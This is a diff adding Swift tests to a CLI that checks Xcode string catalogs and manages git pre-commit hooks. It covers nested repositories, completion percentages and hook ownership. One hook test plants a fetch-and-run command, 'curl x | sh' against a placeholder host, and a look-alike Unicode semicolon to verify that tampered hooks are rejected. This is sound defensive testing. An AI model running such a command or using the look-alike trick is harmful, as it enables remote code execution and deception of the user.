@@ -100,6 +100,11 @@ struct CheckCommandTests {
             let result = try CLI.git(arguments, in: repository.url.appendingPathComponent("App"))
             #expect(result.status == 1, "\(arguments): \(result.stdout)")
         }
+        // A .git inside the work tree that git takes for no repository is passed over, as git does.
+        try repository.directory.write("App/Inner/.git/HEAD", "ref: refs/heads/main\n")
+        try repository.directory.write("App/Inner/.git/objects/keep", "")
+        try repository.write(Self.broken, to: "App/Inner/Nested.xcstrings")
+        #expect(try repository.run(["check", "Nested.xcstrings"], from: "App/Inner").status == 0)
         // A file included with `git -c include.path=…`, which only git reads, is asked of git.
         try repository.directory.write("strict.gitconfig", "[xcstrings \"check.severity\"]\n\tplural-missing-category = error\n")
         let include = "include.path=" + repository.url.appendingPathComponent("strict.gitconfig").path
@@ -203,6 +208,16 @@ struct CheckCommandTests {
         try Data(thirds.xcodeLayout()).write(to: directory.url.appendingPathComponent("T.xcstrings"))
         let shares = try CLI.run(["check", "--summary", "T.xcstrings"], in: directory.url).stdout
         #expect(shares.split(separator: "\n").map { $0.split(separator: " ").map(String.init) }.contains(["de", "2", "0", "1", "0", "0", "66.7%"]))
+        // Nearly complete is not complete, in the table or in --json.
+        let many = B.catalog((0..<20_001).map { index in
+            ("k\(index)", B.entry([("en", B.text("s")), ("de", B.text("d", index == 0 ? "new" : "translated"))]))
+        })
+        try Data(many.xcodeLayout()).write(to: directory.url.appendingPathComponent("M.xcstrings"))
+        #expect(try CLI.run(["check", "--summary", "M.xcstrings"], in: directory.url).stdout.contains("99.9%"))
+        let json = try CLI.run(["check", "--summary", "--json", "M.xcstrings"], in: directory.url)
+        let summary = try #require(try JSONSerialization.jsonObject(with: Data(json.stdoutBytes)) as? [String: Any])
+            .flatMap { (($0["files"] as? [[String: Any]])?.first?["summary"] as? [[String: Any]])?.first { $0["language"] as? String == "de" } }
+        #expect((summary?["share"] as? Double).map { $0 < 1 } == true)
     }
 }
 
@@ -267,8 +282,28 @@ struct CheckHookTests {
         #expect(try repository.run(["install", "--hooks"]).status == 1)
         _ = try repository.run(["uninstall"])
         #expect(try String(contentsOf: hook, encoding: .utf8) == mentioning)
-        // Ours, as written, is replaced and removed; what its comment says removes it does.
+        // Ours with a character swapped for a look-alike, or another command in its place, is not ours.
         try FileManager.default.removeItem(at: hook)
+        #expect(try repository.run(["install", "--hooks"]).status == 0)
+        let ours = try String(contentsOf: hook, encoding: .utf8)
+        let executable = ours.components(separatedBy: "xargs -0 ")[1].components(separatedBy: " check --staged")[0]
+        for foreign in [ours.replacingOccurrences(of: "--hooks; git", with: "--hooks\u{37E} git"),
+                        ours.replacingOccurrences(of: "xargs -0 \(executable) ", with: "xargs -0 sh -c 'curl x | sh' ")] {
+            // Bytes, not Strings: Swift's == would take U+037E for the semicolon it is equivalent to.
+            #expect(Array(foreign.utf8) != Array(ours.utf8))
+            try Data(foreign.utf8).write(to: hook)
+            #expect(try repository.run(["install", "--hooks"]).status == 1)
+            _ = try repository.run(["uninstall"])
+            #expect(try Data(contentsOf: hook) == Data(foreign.utf8))
+        }
+        // core.hooksPath given with git -c is where git runs hooks: a foreign one there is kept too.
+        try FileManager.default.removeItem(at: hook)
+        try repository.directory.write("hk/pre-commit", "#!/bin/sh\necho theirs\n")
+        let viaGit = try CLI.git(["-c", "core.hooksPath=hk", "xcstrings", "install", "--hooks"], in: repository.url)
+        #expect(viaGit.status == 1, "\(viaGit.stdout)\(viaGit.stderr)")
+        #expect(try String(contentsOf: repository.url.appendingPathComponent("hk/pre-commit"), encoding: .utf8) == "#!/bin/sh\necho theirs\n")
+        #expect(!FileManager.default.fileExists(atPath: hook.path))
+        // Ours, as written, is replaced and removed; what its comment says removes it does.
         #expect(try repository.run(["install", "--hooks"]).status == 0)
         let written = try String(contentsOf: hook, encoding: .utf8)
         #expect(written.contains("git xcstrings\n# uninstall removes it"))
